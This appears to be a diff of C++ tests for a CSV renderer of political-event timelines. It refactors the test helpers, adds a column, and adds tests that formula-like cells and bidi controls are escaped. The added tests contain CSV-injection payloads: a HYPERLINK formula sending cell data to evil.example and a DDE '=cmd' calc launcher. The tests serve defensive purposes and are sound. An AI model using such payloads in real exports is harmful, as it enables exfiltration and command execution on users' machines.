@@ -9,7 +9,7 @@
 #include "parley/error.hpp"
 #include "parley/render/csv.hpp"
 
-#include "support.hpp"
+#include "render_support.hpp"
 
 namespace {
 
@@ -61,12 +61,6 @@ std::vector<Record> parse_csv(const std::string& text) {
   return records;
 }
 
-parley::Timeline astana(const parley::RenderOptions& = {}) {
-  parley::Database db{":memory:"};
-  db.import_json(parley::test::astana_json());
-  return parley::make_timeline(db, db.events());
-}
-
 std::vector<Record> render(const parley::Timeline& t,
                            const parley::RenderOptions& options = {}) {
   std::ostringstream out;
@@ -102,15 +96,16 @@ nlohmann::json json_entry(const char* array, const std::string& id) {
 }  // namespace
 
 TEST_CASE("csv: the documented columns, one row per event, same width") {
-  const auto t = astana();
+  const auto t = parley::test::astana_timeline();
   const auto records = render(t);
   const Record header = {
-      "event_id",       "event_date",   "time_precision", "edtf",
-      "earliest_start", "latest_end",   "kind",           "plover",
-      "status",         "planned",      "title",          "actor1",
-      "actor2",         "assoc_actors", "place",          "country",
-      "admin1",         "location",     "latitude",       "longitude",
-      "process",        "topics",       "claims",         "source"};
+      "event_id",       "event_date", "time_precision", "edtf",
+      "earliest_start", "latest_end", "kind",           "plover",
+      "status",         "planned",    "slip",           "title",
+      "actor1",         "actor2",     "assoc_actors",   "place",
+      "country",        "admin1",     "location",       "latitude",
+      "longitude",      "process",    "topics",         "claims",
+      "source"};
   REQUIRE(records.size() == t.events.size() + 1);
   CHECK(records[0] == header);
   for (std::size_t i = 1; i < records.size(); ++i) {
@@ -120,7 +115,7 @@ TEST_CASE("csv: the documented columns, one row per event, same width") {
 }
 
 TEST_CASE("csv: the Astana round's fields come from the data") {
-  const auto records = render(astana());
+  const auto records = render(parley::test::astana_timeline());
   const auto event = json_entry("events", "event:astana-2");
   const auto astana_place = json_entry("places", "place:astana");
   const auto row = row_of(records, "event:astana-2");
@@ -151,7 +146,7 @@ TEST_CASE("csv: the Astana round's fields come from the data") {
 }
 
 TEST_CASE("csv: admin chain, ancestors' coordinates and imprecise dates") {
-  const auto records = render(astana());
+  const auto records = render(parley::test::astana_timeline());
   const auto ghouta = row_of(records, "event:ghouta-siege");
   CHECK(ghouta.at("country") == "Syria");
   CHECK(ghouta.at("admin1") == "Rif Dimashq");
@@ -208,7 +203,7 @@ TEST_CASE("csv: commas, quotes and newlines survive quoting") {
 TEST_CASE("csv: Arabic titles and names are written intact") {
   parley::RenderOptions options;
   options.lang = "ar";
-  const auto records = render(astana(), options);
+  const auto records = render(parley::test::astana_timeline(), options);
   const auto event = json_entry("events", "event:astana-2");
   const auto row = row_of(records, "event:astana-2");
   CHECK(row.at("title") == event["title"]["ar"]);
@@ -222,9 +217,79 @@ TEST_CASE("csv: a failed stream is an io error") {
   std::ostringstream out;
   out.setstate(std::ios::badbit);
   try {
-    parley::write_csv(astana(), out);
+    parley::write_csv(parley::test::astana_timeline(), out);
     FAIL("expected parley::Error");
   } catch (const parley::Error& e) {
     CHECK(e.code() == parley::Errc::io);
   }
+}
+
+namespace {
+
+// One event titled `title`, at a place west of Greenwich and south of the
+// equator, with a claim from a source published by `publisher`.
+parley::Timeline hostile_csv(const std::string& title,
+                             const std::string& publisher) {
+  parley::Timeline t;
+  parley::Place place;
+  place.id = parley::PlaceId{"place:x"};
+  place.kind = parley::PlaceKind::city;
+  place.names = {{"en", "Somewhere"}};
+  place.coordinates = parley::Coordinates{-12.5, -0.25};
+  t.places[place.id] = place;
+  parley::Source source;
+  source.id = parley::SourceId{"source:x"};
+  source.publisher = publisher;
+  t.sources[source.id] = source;
+  parley::Event e = parley::test::make_event("event:x", "2017-02-16", title);
+  e.place = place.id;
+  t.events.push_back(e);
+  parley::Claim claim;
+  claim.id = parley::ClaimId{"claim:x"};
+  claim.event = e.id;
+  claim.source = source.id;
+  t.claims.push_back(claim);
+  return t;
+}
+
+}  // namespace
+
+TEST_CASE("csv: cells a spreadsheet would run as formulas start with '") {
+  const std::string link = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";
+  for (const std::string& title :
+       {link, std::string("@SUM(1+1)"), std::string("-2+3"), std::string("+1"),
+        std::string("\tindented"), std::string("\rreturn")}) {
+    CAPTURE(title);
+    const auto row = row_of(render(hostile_csv(title, "Daily")), "event:x");
+    CHECK(row.at("title") == "'" + title);
+  }
+  // A source's name reaches the `source` column: guarded too.
+  const auto row =
+      row_of(render(hostile_csv("Talks", "=cmd|' /C calc'!A0")), "event:x");
+  CHECK(row.at("source") == "'=cmd|' /C calc'!A0");
+  CHECK(row.at("title") == "Talks");  // ordinary text is untouched
+}
+
+TEST_CASE("csv: numeric columns stay numbers, negative ones included") {
+  const auto row = row_of(render(hostile_csv("Talks", "Daily")), "event:x");
+  CHECK(row.at("latitude") == "-12.5");
+  CHECK(row.at("longitude") == "-0.25");
+  CHECK(row.at("time_precision") == "1");
+}
+
+TEST_CASE("csv: csv_raw writes every cell as stored") {
+  parley::RenderOptions raw;
+  raw.csv_raw = true;
+  const std::string title = "@SUM(1+1) \u202Eevil";
+  const auto row = row_of(render(hostile_csv(title, "-Daily"), raw), "event:x");
+  CHECK(row.at("title") == title);
+  CHECK(row.at("source") == "-Daily");
+}
+
+TEST_CASE("csv: bidi controls are shown escaped, not applied") {
+  // "abc" then RIGHT-TO-LEFT OVERRIDE: without escaping, the text after it
+  // in the row would display reversed.
+  const auto row = row_of(
+      render(hostile_csv("abc\u202Edef\u2066x\u2069", "Daily")), "event:x");
+  CHECK(row.at("title") == "abc<U+202E>def<U+2066>x<U+2069>");
 }
